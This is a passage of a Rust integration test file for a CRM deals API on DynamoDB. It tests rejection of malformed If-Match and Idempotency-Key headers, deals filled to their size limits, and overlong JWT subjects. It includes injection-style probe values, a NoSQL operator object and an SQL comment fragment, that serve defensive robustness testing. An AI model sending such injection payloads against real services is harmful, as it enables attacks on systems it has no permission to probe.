    assert_eq!(
        pipelines.body["data"][0]["version"], default_version,
        "the default pipeline was not written again"
    );
}

#[tokio::test]
async fn hostile_headers_are_4xx_never_5xx() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let path = format!("{DEALS}/{deal}");
    for if_match in [
        "\"99999999999999999999\"",
        "\"-1\"",
        "\"abc\"",
        "W/",
        "\"\"",
        ",,,",
        "\"1\", \"x\"",
        "* , \"1\"",
    ] {
        for (method, uri, body) in [
            (Method::PATCH, path.clone(), Some(json!({"name": "x"}))),
            (
                Method::PATCH,
                format!("{path}/stage"),
                Some(json!({"stage": "qualified"})),
            ),
            (Method::DELETE, path.clone(), None),
        ] {
            let mut call = api.call(method.clone(), &uri).header("if-match", if_match);
            if let Some(body) = &body {
                call = call.json(body);
            }
            let response = call.send().await;
            let (_, fields) = expect_error(&response, 400, "INVALID_REQUEST", if_match, &uri);
            assert_eq!(fields, ["If-Match"]);
        }
    }
    for key in [
        "x".repeat(256),
        "a b".to_owned(),
        "é".to_owned(),
        " ".to_owned(),
    ] {
        let response = api
            .call(Method::POST, DEALS)
            .header("idempotency-key", &key)
            .json(&json!({"name": "keyed"}))
            .send()
            .await;
        let (_, fields) = expect_error(&response, 400, "INVALID_REQUEST", "Idempotency-Key", DEALS);
        assert_eq!(fields, ["Idempotency-Key"]);
    }
    // Keys that look like key material are just keys.
    for key in ["TENANT#x#DEAL#y", "{\"$ne\":null}", "'--"] {
        let first = api
            .call(Method::POST, DEALS)
            .header("idempotency-key", key)
            .json(&json!({"name": key}))
            .send()
            .await;
        assert_eq!(first.status, 201, "{key}: {}", first.body);
        let again = api
            .call(Method::POST, DEALS)
            .header("idempotency-key", key)
            .json(&json!({"name": key}))
            .send()
            .await;
        assert_eq!(again.status, 201);
        assert_eq!(again.body["data"]["id"], first.body["data"]["id"]);
    }
    let unchanged = get(&api, &path).await;
    assert_eq!(unchanged.body["data"]["version"], 1);
    assert_eq!(get(&api, DEALS).await.body["pagination"]["total"], 4);
}

#[tokio::test]
async fn a_deal_filled_to_every_limit_is_stored_and_listed() {
    // Every text field at its limit in four-byte characters, every list full: the limits must
    // keep the item under DynamoDB's 400 KB, so each write is a 200, never a 5xx.
    let api = TestApi::new().await;
    let deal = api.create(json!({"name": wide(255, 0)})).await;
    let path = format!("{DEALS}/{}", id_of(&deal));
    let mut patches = Vec::new();
    for (n, field) in [
        "competitors",
        "quote_ids",
        "proposal_ids",
        "attachment_refs",
    ]
    .into_iter()
    .enumerate()
    {
        // As many 255-character items as one 64 KiB body carries.
        let items: Vec<String> = (0..64).map(|i| wide(255, (n * 64 + i) as u32)).collect();
        let mut items = items;
        for (i, item) in items.iter_mut().enumerate() {
            item.replace_range(
                ..4,
                &char::from_u32(0x1F300 + (n * 64 + i) as u32)
                    .expect("char")
                    .to_string(),
            );
        }
        patches.push(json!({field: items}));
    }
    let tags: Vec<String> = (0..100)
        .map(|i| {
            let mut tag = wide(64, 0);
            tag.replace_range(..4, &char::from_u32(0x1F400 + i).expect("char").to_string());
            tag
        })
        .collect();
    patches.push(json!({"tags": tags}));
    patches.push(json!({"loss_reason": wide(10_000, 7)}));
    patches.push(json!({"closure_notes": wide(10_000, 8)}));
    patches.push(json!({"custom_fields": {"k": wide(4_090, 9)}}));
    patches.push(json!({
        "forecast_category": wide(255, 10), "deal_type": wide(255, 11),
        "deal_source": wide(255, 12), "loss_category": wide(255, 13),
        "linked_task_ids": (0..100).map(|i| format!("tsk-00000000-0000-4000-8000-{i:012}")).collect::<Vec<_>>(),
        "rfp_record_id": "rfp-00000000-0000-4000-8000-000000000001",
        "value": 1e15, "probability": 100, "expected_close_date": "2026-12-31",
        "next_followup_date": "2026-12-31T23:59:59Z",
    }));
    for patch in &patches {
        let body = patch.to_string();
        assert!(body.len() <= 64 * 1024, "a patch of {} bytes", body.len());
        let response = send_with(&api, Method::PATCH, &path, Some(patch)).await;
        assert_eq!(response.status, 200, "{}", response.body);
    }
    for stage in ["qualified", "proposal", "negotiation", "lead", "qualified"] {
        let response = send_with(
            &api,
            Method::PATCH,
            &format!("{path}/stage"),
            Some(&json!({"stage": stage})),
        )
        .await;
        assert_eq!(response.status, 200, "{}", response.body);
    }
    let read = get(&api, &path).await;
    assert_eq!(read.status, 200);
    assert_eq!(
        read.body["data"]["competitors"].as_array().map(Vec::len),
        Some(64)
    );
    assert_eq!(
        read.body["data"]["tags"].as_array().map(Vec::len),
        Some(100)
    );
    for sort in [
        "name",
        "-value",
        "probability",
        "expected_close_date",
        "-updated_at",
    ] {
        let listed = get(&api, &format!("{DEALS}?sort={sort}&include=stage,pipeline")).await;
        assert_eq!(listed.status, 200, "{sort}: {}", listed.body);
        assert_eq!(data_ids(&listed.body).len(), 1);
    }
    let deleted = send_with(&api, Method::DELETE, &path, None).await;
    assert_eq!(deleted.status, 200, "{}", deleted.body);
}

/// PATCHes that fill a deal to its documented limits, each within one 64 KiB body.
fn filling_patches() -> Vec<Value> {
    let mut patches = Vec::new();
    for (n, field) in [
        "competitors",
        "quote_ids",
        "proposal_ids",
        "attachment_refs",
    ]
    .into_iter()
    .enumerate()
    {
        let items: Vec<String> = (0..64)
            .map(|i| {
                let mut item = wide(255, 0);
                let first = char::from_u32(0x1F300 + (n * 64 + i) as u32).expect("char");
                item.replace_range(..4, &first.to_string());
                item
            })
            .collect();
        patches.push(json!({ field: items }));
    }
    patches.push(json!({"loss_reason": wide(10_000, 7)}));
    patches.push(json!({"closure_notes": wide(10_000, 8)}));
    patches.push(json!({"custom_fields": {"k": wide(4_090, 9)}}));
    patches
}

#[tokio::test]
async fn a_long_token_subject_cannot_push_a_full_deal_into_a_5xx() {
    // `sub` is copied into created_by, updated_by and every audit entry's `by`: a longer one
    // than 128 characters is refused, and the longest accepted one, on a deal filled to its
    // field limits, still answers 2xx or 4xx however often the deal moves.
    let api = TestApi::new().await;
    let too_long = hs256(
        &claims(&api, json!({"sub": format!("usr-{}", "s".repeat(5_400))})),
        &secret(&api),
    );
    let refused = api.call(Method::GET, DEALS).token(&too_long).send().await;
    assert_eq!(refused.status, 401, "{}", refused.body);
    let subject = format!("usr-{}", "s".repeat(124));
    let token = hs256(&claims(&api, json!({"sub": subject})), &secret(&api));
    let created = api
        .call(Method::POST, DEALS)
        .token(&token)
        .json(&json!({"name": wide(255, 0)}))
        .send()
        .await;
    assert_eq!(created.status, 201, "{}", created.body);
    let path = format!("{DEALS}/{}", id_of(&created.body["data"]));
    for patch in filling_patches() {
        let response = api
            .call(Method::PATCH, &path)
            .token(&token)
            .json(&patch)
            .send()
            .await;
        no_server_error(&response, "filling PATCH", &path);
    }
    let stages = ["qualified", "proposal"];
    for n in 0..24 {
        let uri = format!("{path}/stage");
        let response = api
            .call(Method::PATCH, &uri)
            .token(&token)
            .json(&json!({"stage": stages[n % 2]}))
            .send()
            .await;
        no_server_error(
            &response,
            &format!("stage move {n} by a long subject"),
            &uri,
        );
    }
    let read = get(&api, &path).await;
    assert_eq!(read.status, 200, "{}", read.body);
    let history = get(&api, &format!("{path}/history?limit=100")).await;
    no_server_error(&history, "history", &path);
}
